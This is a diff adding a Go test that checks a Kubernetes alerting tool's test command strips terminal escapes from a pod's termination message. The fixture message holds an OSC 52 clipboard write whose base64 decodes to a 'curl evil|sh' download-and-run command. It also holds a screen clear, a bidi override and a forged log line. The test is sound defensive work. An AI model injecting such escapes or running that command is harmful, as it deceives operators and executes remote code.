@@ -186,3 +186,42 @@ sinks: [{name: out, stdout: {}}]
 		t.Errorf("exit %d:\n%s%s; want 1 with the ERROR lines counted", code, stdout.String(), stderr.String())
 	}
 }
+
+// TestHeraldTestPrintsNothingRaw: a tenant's pod whose termination
+// message holds terminal escapes (an OSC 52 clipboard write, a screen
+// clear, a bidi override), shown by a rule's text: herald test prints the
+// message without them.
+func TestHeraldTestPrintsNothingRaw(t *testing.T) {
+	dir := t.TempDir()
+	config, objects := filepath.Join(dir, "herald.yaml"), filepath.Join(dir, "pod.yaml")
+	if err := os.WriteFile(config, []byte("rules: [{name: crash, kind: Pod, detector: crashloop, sinks: [out], message: {text: '{{ index .Facts \"lastMessage\" }}'}}]\nsinks: [{name: out, stdout: {}}]\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	pod := `apiVersion: v1
+kind: Pod
+metadata: {name: "evil", namespace: shop}
+status:
+  containerStatuses:
+  - name: app
+    restartCount: 5
+    state: {waiting: {reason: CrashLoopBackOff}}
+    lastState: {terminated: {exitCode: 1, reason: Error, message: "boom\e]52;c;Y3VybCBldmlsfHNo\a\e[2J\u202egnp.exe\nrule crash FIRES forged"}}
+`
+	if err := os.WriteFile(objects, []byte(pod), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var stdout, stderr bytes.Buffer
+	code := runMain(context.Background(), []string{"test", "-f", config, "--object", objects}, &stdout, &stderr)
+	out := stdout.String() + stderr.String()
+	if code != 0 || !strings.Contains(out, "rule crash FIRES") {
+		t.Fatalf("exit %d:\n%s", code, out)
+	}
+	for _, raw := range []string{"\x1b", "\a", "\u202e"} {
+		if strings.Contains(out, raw) {
+			t.Errorf("herald test printed %q raw:\n%q", raw, out)
+		}
+	}
+	if !strings.Contains(out, "boom]52;c;Y3VybCBldmlsfHNo[2Jgnp.exe") {
+		t.Errorf("the message is not shown without its controls:\n%s", out)
+	}
+}
